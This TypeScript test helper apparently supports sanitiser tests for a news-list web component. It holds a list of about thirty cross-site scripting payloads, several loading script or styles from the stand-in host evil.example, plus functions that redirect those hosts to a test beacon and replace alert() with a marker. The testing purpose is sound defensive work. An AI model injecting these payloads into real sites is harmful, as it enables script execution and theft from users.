/** What one story is made of: a text that means harm, in every field that can hold it. */
export interface Attack {
  readonly text: string;
  /** The same with `globalThis.hacked` in the place of `alert`. */
  readonly armed: string;
  /** An address taken out of it. */
  readonly link: string;
  /** The same, where a picture is wanted. */
  readonly picture: string;
}

/** Where an attack may call home. */
export interface Lures {
  /** Nobody may ever ask for it. */
  readonly beacon: string;
  /** What stands for a host in the address of a picture; a picture may be asked for. */
  readonly pictures: string;
}

/** Attacks of our own, for runs without the corpora: one of each kind. */
export const ownPayloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/x.png" srcset="https://evil.example/y.png 2x">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<math><annotation-xml encoding="text/html"><svg onload=alert(1)></annotation-xml></math>',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="java\tscript:alert(1)">x</a><a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a><a href="vbscript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button formaction="//evil.example/">x</button></form>',
  '<style>@import "//evil.example/x.css"; * { background: url(https://evil.example/x) }</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '"><script>alert(1)</script><p title="',
  "' autofocus onfocus=alert(1) x='",
  '</script><script>alert(1)</script><!--',
  '</textarea></title></style><img src=x onerror=alert(1)>',
  ']]><script>alert(1)</script><![CDATA[',
  '&lt;img src=x onerror=alert(1)&gt; &#60;script>alert(1)&#60;/script>',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %> ?lit$123456789$',
  '<iom-news-list src="https://evil.example/feed.json" onload=alert(1)></iom-news-list>',
  '<div data-iom-news data-src="https://evil.example/feed.json" onclick=alert(1)></div>',
  '<img name=body><form name=cookie id=getElementById><input name=attributes></form>',
  'https://user:password@evil.example/ \u202E\u2066 moc.elpmaxe\u2069\u202C',
  'https://evil.example/a.png, //evil.example/b.png 2x,',
  '__proto__ constructor toString',
  'x" style="background:url(https://evil.example/x);position:fixed;inset:0',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>\uD800',
];

/** Hosts in a payload lead to us; names of namespaces, without which it would be harmless, stay. */
const hosts = /(?:https?:)?\/\/(?!www\.w3\.org)(?:[^\s/"'<>()\\@]*@)?[a-z\d][a-z\d.-]*(?::\d+)?/gi;

const baited = (text: string, address: string): string => text.replace(hosts, `${address}/lure`);

const calls = /\b(?:alert|prompt|confirm|print)\b\s*(?:\([^()]*\)|`[^`]*`)/g;

const armed = (text: string): string =>
  text.replace(calls, '(top.hacked=parent.hacked=globalThis.hacked=1)');

const attributes =
  /(?:href|src|srcset|action|formaction|data|from|to|values|background|poster|code|codebase|folder|url|content)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)|url\(([^)]*)\)/gi;

const named: Readonly<Record<string, string>> = {
  amp: '&',
  colon: ':',
  lpar: '(',
  newline: '\n',
  quot: '"',
  rpar: ')',
  sol: '/',
  tab: '\t',
};

/** What the references in an attribute stand for. */
const decoded = (text: string): string =>
  text.replace(
    /&(?:#(\d{1,7})|#x([\da-f]{1,6})|(\w+));?/gi,
    (whole, decimal?: string, hex?: string, name = '') => {
      if (name) return named[(name as string).toLowerCase()] ?? whole;
      const code = decimal ? Number(decimal) : parseInt(hex!, 16);
      return code <= 0x10ffff ? String.fromCodePoint(code) : '\uFFFD';
    },
  );

/** Addresses that a payload wants to be followed: itself, and what stands in its attributes. */
function addressesIn(text: string): string[] {
  const found = [...text.matchAll(attributes)].map(([, value, inStyle]) =>
    (value ?? inStyle ?? '').replace(/^["']|["']$/g, ''),
  );
  return [text, ...found, ...found.map(decoded)].filter((address) => address.trim());
}

/** A word that no markup takes away, so that the story shows whatever follows. */
const anyway = 'Story';

/**
 * Every payload as it is, and behind a word that stays when all that is markup is gone, with each of the
 * addresses that are in it.
 */
export function attacksOf(payloads: readonly string[], { beacon, pictures }: Lures): Attack[] {
  const seen = new Set<string>();
  return payloads.flatMap((payload) => {
    const attack = (text: string, address: string): Attack => ({
      text: baited(text, beacon),
      armed: baited(armed(text), beacon),
      link: baited(armed(address), beacon),
      picture: baited(armed(address), pictures),
    });
    const addresses = addressesIn(payload).filter((one) => !seen.has(one) && seen.add(one));
    return [
      attack(payload, payload),
      ...addresses.map((address) => attack(`${anyway} ${payload}`, address)),
    ];
  });
}

/** How many of some attacks show as stories, whatever becomes of their markup. */
export const countShown = (attacks: readonly Attack[]): number =>
  attacks.filter(({ text }) => text.startsWith(anyway)).length;

/** How many of these are among some titles. */
export const countShownAs = (titles: readonly string[]): number =>
  titles.filter((title) => title.startsWith(anyway)).length;

/** The words of an attack as HTML has them, so that decoding them once gives the attack. */
export const escaped = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

/** One attack a payload, with the first of its addresses; each shows as a story. */
export function onePerPayload(attacks: readonly Attack[]): Attack[] {
  const seen = new Set<string>();
  return attacks.filter(({ text }) => text.startsWith(anyway) && !seen.has(text) && seen.add(text));
}

/** The same, escaped once. */
export const escapedAttacks = (attacks: readonly Attack[]): Attack[] =>
  onePerPayload(attacks).map(({ text, armed: other, ...addresses }) => ({
    text: escaped(other),
    armed: escaped(text),
    ...addresses,
  }));

/** Stories that mean no harm: what they look like is what an attack has to look like. */
export const harmless = (address: string, length = 24): Attack[] =>
  Array.from({ length }, (_, i) => ({
    text: `Some words of story ${i}`,
    armed: `Other words of story ${i}`,
    link: i % 3 < 2 ? `${address}/story/${i}` : '',
    picture: i % 5 < 4 ? `${address}/picture.png` : '',
  }));
